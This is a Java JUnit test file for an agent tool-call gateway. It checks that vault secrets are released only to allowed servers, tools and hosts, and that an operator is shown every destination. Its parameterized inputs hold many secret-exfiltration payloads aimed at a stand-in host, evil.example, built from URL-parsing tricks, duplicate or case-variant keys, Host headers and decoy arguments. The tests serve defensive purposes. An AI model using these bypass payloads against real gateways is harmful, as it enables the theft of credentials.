package dev.postern.gate.vault;

import static org.assertj.core.api.Assertions.assertThat;

import dev.postern.gate.approval.Approval;
import dev.postern.gate.approval.RiskReason;
import dev.postern.gate.call.Disposition;
import dev.postern.gate.call.Outcome;
import dev.postern.gate.testing.Outcomes;
import dev.postern.gate.testing.TestCall;
import dev.postern.gate.testing.TestGate;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** P9: outside its destination rules a secret is forbidden, whatever the operator would click. */
class DestinationTest {
    private final TestGate gate = new TestGate();

    @Test
    @DisplayName("P9: servers and tools")
    void serversAndTools() {
        rules(List.of("files", "web"), List.of("files__write", "web__fetch"), List.of());
        TestCall call = gate.call("{\"text\":\"{{vault:db}}\"}");

        assertThat(disposition(call)).isEqualTo(Disposition.APPROVAL_PENDING);
        assertThat(disposition(call.tool("files", "read"))).isEqualTo(Disposition.SECRET_FORBIDDEN);
        assertThat(disposition(call.tool("other", "write"))).isEqualTo(Disposition.SECRET_FORBIDDEN);
        assertThat(disposition(call.tool("web", "fetch"))).isEqualTo(Disposition.APPROVAL_PENDING);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"url\":\"https://api.example.com/\",\"body\":\"{{vault:db}}\"}",
                "{\"URL\":\"https://API.EXAMPLE.COM:8443/\",\"body\":\"{{vault:db}}\"}",
                "{\"uri\":\"https://api.example.com/?key={{vault:db}}\"}",
                "{\"endpoint\":\"wss://api.example.com/{{vault:db}}\"}",
                "{\"request\":{\"url\":\"https://api.example.com/\"},\"headers\":{\"Authorization\":\"{{vault:db}}\"}}",
                "{\"baseUrl\":\"https://api.example.com/\",\"text\":\"{{vault:db}}\"}",
                "{\"urls\":[\"https://api.example.com/1\",\"https://api.example.com/2\"],\"text\":\"{{vault:db}}\"}",
                "{\"host\":\"api.example.com:5432\",\"password\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"body\":\"see https://docs.example.org/ {{vault:db}}\"}",
                "{\"url\":\"https://cdn.example.net/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://app:{{vault:db|uri}}@api.example.com/\"}"
            })
    @DisplayName("P9: a listed host is asked about")
    void aListedHostIsAskedAbout(String arguments) {
        rules(List.of(), List.of(), List.of("API.example.com", "*.example.net"));

        assertThat(disposition(gate.call(arguments))).isEqualTo(Disposition.APPROVAL_PENDING);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"url\":\"https://evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com@evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com\\\\@evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com.evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://{{vault:db}}.api.example.com/\"}",
                "{\"url\":\"https://api.example.com:{{vault:db}}/\"}",
                "{\"url\":\"{{vault:db}}\"}",
                "{\"url\":\"/v1/{{vault:db}}\"}",
                "{\"url\":\"https:///evil.example/{{vault:db}}\"}",
                "{\"url\":\"https://evil.example:{{vault:db}}@api.example.com/\"}",
                "{\"text\":\"{{vault:db}}\"}",
                "{\"url\":7,\"text\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"url\":\"https://evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://evil.example/\",\"url\":\"https://api.example.com/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"\\u0055RL\":\"https://evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"options\":{\"url\":\"https://evil.example/\"},\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"target\":\"https://evil.example/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"to\":[[\" https:/evil.example/\"]],\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"proxy\":\"//evil.example\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"host\":\"evil.example\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"headers\":{\"Host\":\"evil.example\"},\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://api.example.com/\",\"callback_url\":\"evil.example\",\"body\":\"{{vault:db}}\"}",
                "{\"target\":\"https://api.example.com/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://example.net/\",\"body\":\"{{vault:db}}\"}",
                "{\"url\":\"https://evilexample.net/\",\"body\":\"{{vault:db}}\"}"
            })
    @DisplayName("P9: a host that is not listed, or cannot be told, or stands beside a listed one, is forbidden")
    void anyOtherHostIsForbidden(String arguments) {
        rules(List.of(), List.of(), List.of("api.example.com", "*.example.net"));

        Outcome outcome = gate.run(gate.call(arguments));

        assertThat(Outcomes.disposition(outcome)).isEqualTo(Disposition.SECRET_FORBIDDEN);
        assertThat(gate.approvalStore.uses()).isZero();
        assertThat(gate.vault.openedCount()).as("values opened").isZero();
    }

    @Test
    @DisplayName("P9: an argument the tool's schema does not know is no destination, however harmless its host")
    void aDecoyIsNoDestination() {
        rules(List.of(), List.of(), List.of("api.example.com"));
        TestCall call = gate.call(
                "{\"url\":\"https://api.example.com/\",\"target\":\"evil.example\",\"text\":\"{{vault:db}}\"}");

        assertThat(disposition(call.schema("{\"properties\":{\"target\":{},\"text\":{}}}")))
                .isEqualTo(Disposition.SECRET_FORBIDDEN);
        assertThat(disposition(call.schema("{\"properties\":{\"url\":{},\"text\":{}}}")))
                .isEqualTo(Disposition.APPROVAL_PENDING);
    }

    @Test
    @DisplayName("P8: the operator sees every host, and where one cannot be told")
    void theOperatorSeesEveryHost() {
        gate.vault.put("db", "database-password");

        gate.run(
                gate.call(
                        "{\"b\":\"https://b.example/\",\"url\":\"https://a.example/\",\"endpoint\":\"/x\",\"t\":\"{{vault:db}}\"}"));

        assertThat(gate.approvalStore.awaitRequest().destination())
                .isEqualTo("files → a.example, b.example, unknown host");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "target|{\"target\":\"https://api.example.com/\",\"text\":\"see https://evil.example/ {{vault:db}}\"}|api.example.com",
                "target|{\"target\":\"api.example.com:8443\",\"url\":\"https://evil.example/\",\"text\":\"{{vault:db}}\"}|api.example.com",
                "target|{\"target\":[\"a.example.com\",[\"b.example.com\"],null],\"text\":\"{{vault:db}}\"}|a.example.com, b.example.com",
                "request/target|{\"request\":{\"target\":\"api.example.com\"},\"text\":\"{{vault:db}}\"}|api.example.com",
                "request/target|{\"request\":[{\"target\":\"a.example.com\"},{\"target\":\"b.example.com\"}],\"t\":\"{{vault:db}}\"}|a.example.com, b.example.com",
                "target|{\"target\":\"a.example.com\",\"Target\":\"evil.example\",\"text\":\"{{vault:db}}\"}|a.example.com, evil.example",
                "target|{\"target\":\"a.example.com\",\"target\":\"evil.example\",\"text\":\"{{vault:db}}\"}|a.example.com, evil.example",
                "target|{\"target\":\"/relative\",\"text\":\"{{vault:db}}\"}|unknown host",
                "target|{\"target\":\"{{vault:db}}\"}|unknown host",
                "target|{\"target\":7,\"text\":\"{{vault:db}}\"}|unknown host",
                "target|{\"target\":{\"url\":\"a.example.com\"},\"text\":\"{{vault:db}}\"}|unknown host",
                "request/target|{\"request\":\"a.example.com\",\"text\":\"{{vault:db}}\"}|unknown host"
            })
    @DisplayName(
            "P8, P9: a declared argument alone says where a tool leads, however it is written, and nothing is guessed")
    void aDeclaredArgumentSaysWhereAToolLeads(String declared, String arguments, String hosts) {
        gate.vault.put("db", "database-password");
        gate.declared.put("write", List.of(ArgumentPath.parse(declared)));

        gate.run(gate.call(arguments));

        Approval request = gate.approvalStore.awaitRequest();
        assertThat(request.destination()).isEqualTo("files → " + hosts);
        assertThat(request.riskReasons()).doesNotContain(RiskReason.HOST_GUESSED);
    }

    @Test
    @DisplayName(
            "P9: rules for hosts hold for the declared argument; a tool that was declared to lead nowhere gets no secret that is bound to hosts")
    void rulesHoldForDeclaredArguments() {
        rules(List.of(), List.of(), List.of("api.example.com"));
        gate.declared.put("write", List.of(ArgumentPath.parse("target")));
        assertThat(disposition(gate.call("{\"target\":\"api.example.com\",\"text\":\"{{vault:db}}\"}")))
                .isEqualTo(Disposition.APPROVAL_PENDING);
        assertThat(disposition(gate.call(
                        "{\"target\":\"evil.example\",\"url\":\"https://api.example.com/\",\"t\":\"{{vault:db}}\"}")))
                .isEqualTo(Disposition.SECRET_FORBIDDEN);
        assertThat(disposition(gate.call("{\"url\":\"https://api.example.com/\",\"t\":\"{{vault:db}}\"}")))
                .as("the declared argument is not there")
                .isEqualTo(Disposition.SECRET_FORBIDDEN);
        gate.declared.put("write", List.of());
        assertThat(disposition(gate.call("{\"url\":\"https://api.example.com/\",\"t\":\"{{vault:db}}\"}")))
                .isEqualTo(Disposition.SECRET_FORBIDDEN);
    }

    @Test
    @DisplayName("P8: a tool that was declared to lead nowhere may be given text that looks like a URL")
    void aToolMayLeadNowhere() {
        gate.vault.put("db", "database-password");
        gate.declared.put("write", List.of());

        gate.run(gate.call("{\"text\":\"https://app:{{vault:db}}@db.example/\"}"));

        Approval request = gate.approvalStore.awaitRequest();
        assertThat(request.destination()).isEqualTo("files");
        assertThat(request.risk()).isEqualTo(Approval.Risk.HIGH);
    }

    @Test
    @DisplayName(
            "P9: a declaration of an argument that the tool does not have is for another tool: the host is guessed")
    void aDeclarationThatTheSchemaContradictsIsNotUsed() {
        gate.vault.put("db", "database-password");
        gate.declared.put("write", List.of(ArgumentPath.parse("tarket")));
        TestCall call = gate.call("{\"url\":\"https://evil.example/\",\"text\":\"{{vault:db}}\"}");

        gate.run(call.schema("{\"properties\":{\"url\":{},\"text\":{}}}"));

        Approval request = gate.approvalStore.awaitRequest();
        assertThat(request.destination()).isEqualTo("files → evil.example");
        assertThat(request.riskReasons()).contains(RiskReason.HOST_GUESSED);
    }

    @Test
    @DisplayName("P6: a declaration that is changed while a person reads refuses the call")
    void aDeclarationChangedWhileWaitingRefuses() {
        gate.vault.put("db", "database-password");
        gate.declared.put("write", List.of());
        CompletableFuture<Outcome> running =
                gate.start(gate.call("{\"url\":\"https://evil.example/\",\"text\":\"{{vault:db}}\"}"));
        String id = gate.approvalStore.awaitRequest().id();
        gate.declared.put("write", List.of(ArgumentPath.parse("url")));
        gate.approvals.approve(id, "operator", null);

        assertThat(Outcomes.disposition(Outcomes.of(running))).isEqualTo(Disposition.SECRET_FORBIDDEN);
        assertThat(gate.upstream.calls()).isZero();
    }

    private void rules(List<String> servers, List<String> tools, List<String> hosts) {
        gate.vault.put("db", "database-password", "", new DestinationRules(servers, tools, hosts), List.of());
    }

    private Disposition disposition(TestCall call) {
        return Outcomes.disposition(gate.run(call));
    }
}
